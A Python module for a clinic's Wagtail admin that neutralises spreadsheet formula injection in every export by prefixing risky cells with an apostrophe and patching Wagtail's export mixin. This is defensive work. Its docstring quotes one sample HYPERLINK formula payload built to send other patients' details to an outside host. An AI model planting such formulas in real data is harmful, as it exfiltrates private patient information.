"""No export from the admin carries a live formula.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as
a formula by Excel, LibreOffice and Google Sheets: a patient who books as
``=HYPERLINK("http://…"&C2&C3,"Details")`` would become a link in the front desk's file
that carries other patients' details away. Such a cell is written with a leading
apostrophe, which spreadsheets show as text (OWASP's "CSV injection" advice), in CSV and
in Excel alike (an .xlsx text cell is safe until someone saves it as CSV).

A number ("+15550100101", the stored form of every phone, or "-12.5") holds no formula,
so it is written as it is: only digits, spaces, dots, parentheses and hyphens after its
sign.

Every spreadsheet export in the admin goes through Wagtail's
``SpreadsheetExportMixin.preprocess_field_value``: the Bookings lists' exports (the
appointments' own streaming CSV included), and Wagtail's own, such as Reports → Site
history, whose labels name patients, and form submissions. ``install`` wraps it once, at
start-up (``practice/apps.py``), so an export added later is covered without being told.
"""

import re
from functools import wraps

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-][\d\s().-]*\Z")


def cell_neutralised(value):
    """``value`` as a spreadsheet may hold it: text that would start a formula gets a
    leading apostrophe; anything else is returned unchanged."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.match(value):
        return value
    return "'" + value


def install() -> None:
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    @wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        return cell_neutralised(original(self, field, value, export_format))

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
